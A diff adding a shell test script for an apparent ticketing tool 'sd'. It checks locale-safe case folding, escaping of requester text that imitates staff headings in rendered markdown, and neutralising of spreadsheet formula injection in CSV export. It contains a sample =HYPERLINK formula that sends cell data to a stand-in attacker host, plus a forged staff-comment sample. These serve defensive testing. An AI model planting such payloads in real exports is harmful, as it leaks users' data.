@@ -1,0 +1,82 @@
+#!/bin/bash
+# SPDX-License-Identifier: MIT
+# Text from outside the IT team (requesters, pulls, imports) gives the same
+# results in every locale and cannot disguise itself in what sd writes:
+# CSV cells, the ticket file as a forge renders it, identities, id
+# prefixes and times.
+. "$(dirname "$0")/lib.sh"
+
+# --- case folding is ASCII, whatever the locale ---
+# Under tr_TR.UTF-8, tolower('I') is 'I': a comparison through the locale
+# missed IT-Desk for --queue it-desk and took Ivan's own reply (as
+# IVAN@...) for a response by staff, meeting the first-response clock.
+r=$(store locale)
+id=$(new_ticket "$r" "Printer" --queue IT-Desk --requester "Ivan <IVAN@example.com>")
+SD_AUTHOR="Ivan <ivan@EXAMPLE.com>" SD_NOW=2026-11-23T09:30:00Z \
+	expect_exit "locale: the requester replies" 0 sd -C "$r" comment "$id" -m "me again"
+if locale -a 2>/dev/null | grep -qix 'tr_TR.utf8'; then
+	locales="C C.UTF-8 tr_TR.UTF-8"
+else
+	locales="C C.UTF-8"
+	skip "locale: tr_TR.UTF-8" "the locale is not installed (make deps generates it as root)"
+fi
+for loc in $locales; do
+	LC_ALL=$loc expect_exit "$loc: list --queue it-desk" 0 sd -C "$r" list --queue it-desk --format '%(id) %(queue)'
+	expect_out "$loc: --queue it-desk matches IT-Desk" "$id IT-Desk"
+	LC_ALL=$loc SD_NOW=2026-11-23T10:00:00Z expect_exit "$loc: sla" 0 sd -C "$r" sla --json "$id"
+	expect_json "$loc: the requester's own reply is no first response" "$OUT" \
+		'd[0]["first_response"]["state"] + " " + str(d[0]["first_response"]["elapsed"])' "running 3600"
+done
+
+# --- the ticket file as a forge renders it ---
+# A requester's heading must not pose as a staff entry, and a '<pre>' line
+# or an unclosed fence must not swallow the entries after it; sd escapes
+# such lines on write and reads them back exactly.
+r=$(store forge)
+desc=$'My printer:\n<pre>\n### Timeline'
+fake=$'### Bob Tech · 2026-12-02 18:25 UTC\nResolved, closing.\n```\n<pre>\n```\n<!-- sd:comment id=x -->\n```'
+id=$(new_ticket "$r" "Printer" -m "$desc")
+SD_AUTHOR="Eve <eve@example.com>" SD_NOW=2026-11-23T09:10:00Z \
+	expect_exit "forge: the requester comments" 0 sd -C "$r" comment "$id" -m "$fake"
+SD_AUTHOR="Bob Tech <bob@example.com>" SD_NOW=2026-11-23T09:20:00Z \
+	expect_exit "forge: staff answer" 0 sd -C "$r" comment "$id" -m "Real answer"
+expect_exit "forge: show --json" 0 sd -C "$r" show --json "$id"
+expect_json "forge: the description reads back exactly" "$OUT" 'd["description"]' "$desc"
+expect_json "forge: the comment reads back exactly" "$OUT" \
+	'[e["body"] for e in d["timeline"] if e["kind"] == "comment"][0]' "$fake"
+if command -v cmark-gfm >/dev/null; then
+	cmark-gfm --unsafe "$r/$(tpath "$id")" >"$tmp/forge.html"
+	expect_eq "forge: only sd's own headings render, both of them" \
+		"<h2>Timeline</h2>|<h3>Eve · 2026-11-23 09:10 UTC</h3>|<h3>Bob Tech · 2026-11-23 09:20 UTC</h3>" \
+		"$(grep -oE '<h[1-6]>[^<]*</h[1-6]>' "$tmp/forge.html" | tr '\n' '|' | sed 's/|$//')"
+	expect_eq "forge: no raw <pre> block opens" "" "$(grep -nx '<pre>' "$tmp/forge.html")"
+	expect_contains "forge: the requester's heading shows as text" "$tmp/forge.html" \
+		"<p>### Bob Tech · 2026-12-02 18:25 UTC"
+	expect_contains "forge: a closed fence stays code" "$tmp/forge.html" "<pre><code>&lt;pre&gt;"
+else
+	skip "forge: rendering" "cmark-gfm is not installed (make deps installs it)"
+fi
+fsck_ok "forge" "$r"
+
+# --- CSV cells that a spreadsheet would run as formulas ---
+r=$(store csv)
+id=$(new_ticket "$r" '=HYPERLINK("http://evil.example/?"&A1,"Click")' --requester "@attacker" -m $'-1 degrees\nin the server room')
+expect_exit "csv: export" 0 sd -C "$r" export --format csv -o "$tmp/desk.csv"
+expect_contains "csv: a formula title is neutralised" "$tmp/desk.csv" \
+	"$id,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",incident"
+expect_contains "csv: @ is neutralised" "$tmp/desk.csv" ",'@attacker,"
+expect_contains "csv: - is neutralised" "$tmp/desk.csv" "\"'-1 degrees"
+expect_exit "csv: export --raw-csv" 0 sd -C "$r" export --format csv --raw-csv
+expect_out_has "csv: --raw-csv keeps cells as they are" "$id,\"=HYPERLINK("
+expect_out_has "csv: --raw-csv keeps @" ",@attacker,"
+expect_exit "csv: --raw-csv is for CSV" 2 sd -C "$r" export --raw-csv
+expect_sd_error "csv: --raw-csv with JSON: message"
+r2=$(store csv-import)
+expect_exit "csv: import of the export" 0 sd -C "$r2" import "$tmp/desk.csv"
+expect_file_eq "csv: import takes the added quote off again" "$r/$(tpath "$id")" "$r2/$(tpath "$id")"
+r3=$(store csv-raw-import)
+expect_exit "csv: import --raw-csv" 0 sd -C "$r3" import --raw-csv "$tmp/desk.csv"
+expect_exit "csv: import --raw-csv: show" 0 sd -C "$r3" show --json "$id"
+expect_json "csv: import --raw-csv keeps the quote" "$OUT" 'd["requester"]' "'@attacker"
+
+finish
